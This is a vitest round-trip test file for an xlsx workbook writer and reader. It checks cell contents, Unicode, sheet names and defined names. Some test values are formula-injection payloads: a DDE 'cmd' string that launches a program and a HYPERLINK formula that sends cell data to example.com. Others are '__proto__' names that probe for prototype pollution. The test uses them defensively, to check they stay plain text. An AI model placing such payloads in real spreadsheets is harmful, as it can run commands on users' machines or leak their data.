import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { plainDate } from "../../src/domain/date/plainDate";
import { toSerial } from "../../src/domain/date/serial";
import type { CellContent } from "../../src/sheets/model/cell";
import { dateTimeSerial } from "../../src/sheets/model/dateTime";
import type { CellRecord } from "../../src/sheets/model/workbookCells";
import { readWorkbook } from "../../src/xlsx/read";
import { writeWorkbook } from "../../src/xlsx/write";
import { bookOf, columnBook, sheetOf, text } from "./bookOf";

async function readBack(contents: CellContent[]): Promise<CellRecord[]> {
  const { sheets } = await readWorkbook(writeWorkbook(columnBook(contents)));
  return [...sheets[0]!.cells];
}

/** What reading must give for a cell of column A. */
function expected(content: CellContent, row: number): CellRecord[] {
  const address = `A${row + 1}`;
  switch (content.kind) {
    case "text":
      return content.text === "" ? [] : [{ address, value: content.text }];
    case "number":
      return [{ address, value: content.number }];
    case "date":
      return [{ address, value: toSerial(content.date), isDate: true }];
    case "dateTime":
      return [{ address, value: dateTimeSerial(content.dateTime), isDate: true }];
    case "formula":
      return [{ address, value: content.cached ?? null, formula: content.formula }];
  }
}

const anyDate = fc
  .tuple(
    fc.integer({ min: 1901, max: 9999 }),
    fc.integer({ min: 1, max: 12 }),
    fc.integer({ min: 1, max: 28 }),
  )
  .map(([year, month, day]) => plainDate(year, month, day)!);

/** Strings of any UTF-16 units, rich in what the format treats specially. */
const anyText = fc
  .array(
    fc.oneof(
      fc.string({ unit: "binary" }),
      fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
      fc.constantFrom("_x0041_", "_x005F_", "_", "x000D_", "\r\n", "<", "&amp;", "]]>", " ", "=", "ế", "😀"),
    ),
    { maxLength: 12 },
  )
  .map((pieces) => pieces.join(""));

const anyContent: fc.Arbitrary<CellContent> = fc.oneof(
  anyText.map((value) => ({ kind: "text", text: value }) as const),
  fc
    .double({ noNaN: true, noDefaultInfinity: true })
    .map((number) => ({ kind: "number", number: Object.is(number, -0) ? 0 : number }) as const),
  anyDate.map((date) => ({ kind: "date", date }) as const),
  anyDate.map((date) => ({ kind: "dateTime", dateTime: `${date}T13:45` }) as const),
  fc
    .option(
      fc.oneof(
        anyText.filter((value) => !value.startsWith("#")),
        fc.integer(),
        fc.boolean(),
      ),
      { nil: undefined },
    )
    .map(
      (cached) =>
        ({ kind: "formula", formula: "A1+1", ...(cached === undefined ? {} : { cached }) }) as const,
    ),
);

describe("a workbook written and read again", () => {
  it("has the same cells: texts, numbers, dates, formulas with their results", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyContent, { minLength: 1, maxLength: 20 }), async (contents) => {
        expect(await readBack(contents)).toEqual(contents.flatMap(expected));
      }),
      { numRuns: 150 },
    );
  });

  it.each([
    ["a formula", "=1+1"],
    ["a plus sign", "+84 912 345 678"],
    ["a list item", "- Báo cáo"],
    ["an at sign", "@SUM(A1)"],
    ["a tab", "\t=cmd|' /C calc'!A0"],
    ["a carriage return", "\r=1+1"],
    ["a link", '=HYPERLINK("http://example.com?"&A1,"Bấm vào đây")'],
    ["an apostrophe", "'0912345678"],
    ["an emoji", "👩‍👩‍👧 Đã xong"],
    ["control characters", "a\u0000b\u0008c\u001fd\ufffe"],
    ["half a character", "a\ud83d"],
    ["the format's own escape", "_x0041_ _x005F_x0041_ _x0041\r"],
    ["edge spaces and lines", "  dòng 1\n\n  dòng 2  "],
    ["markup", "<b>&lt;</b> ]]>"],
    ["a property name", "__proto__"],
    ["a number in words of digits", "0012"],
    ["the longest text Excel can hold", "ệ".repeat(32_767)],
  ])("keeps text that begins with or holds %s as that text, not as a formula", async (_, value) => {
    expect(await readBack([{ kind: "text", text: value }])).toEqual([{ address: "A1", value }]);
  });

  it("cuts a text longer than Excel can hold, without halving a character", async () => {
    const [cell] = await readBack([{ kind: "text", text: `${"a".repeat(32_766)}😀` }]);
    expect(cell?.value).toBe("a".repeat(32_766));
  });

  it("gives an error result as an error, and a number that is none as #NUM!", async () => {
    const cells = await readBack([
      { kind: "formula", formula: "1/0", cached: "#DIV/0!" },
      { kind: "number", number: NaN },
    ]);
    expect(cells).toEqual([
      { address: "A1", value: null, error: "#DIV/0!", formula: "1/0" },
      { address: "A2", value: null, error: "#NUM!" },
    ]);
  });

  it("keeps sheets in order with their states, and names, whatever they are called", async () => {
    const names = [
      { name: "NgayTinh", refersTo: "'Tổng hợp'!$C$3" },
      { name: "__proto__", refersTo: "'Danh mục'!$A$1", hidden: true },
    ];
    const book = bookOf(
      [
        sheetOf([[text("a")]], { name: "Kế hoạch & 'năm' 2024" }),
        sheetOf([[text("b")]], { name: "Danh mục", state: "veryHidden" }),
        sheetOf([[text("c")]], { name: "__proto__", state: "hidden" }),
      ],
      { names },
    );
    const { sheets, definedNames } = await readWorkbook(writeWorkbook(book));
    expect(sheets.map(({ name, state }) => [name, state])).toEqual([
      ["Kế hoạch & 'năm' 2024", "visible"],
      ["Danh mục", "veryHidden"],
      ["__proto__", "hidden"],
    ]);
    expect(Object.entries(definedNames)).toEqual(names.map(({ name, refersTo }) => [name, refersTo]));
    expect(Object.getPrototypeOf(definedNames)).toBeNull();
  });

  it("is the same byte for byte when the book is the same", () => {
    const book = columnBook([{ kind: "text", text: "Kế hoạch" }]);
    expect(writeWorkbook(book)).toEqual(writeWorkbook(structuredClone(book)));
  });
});
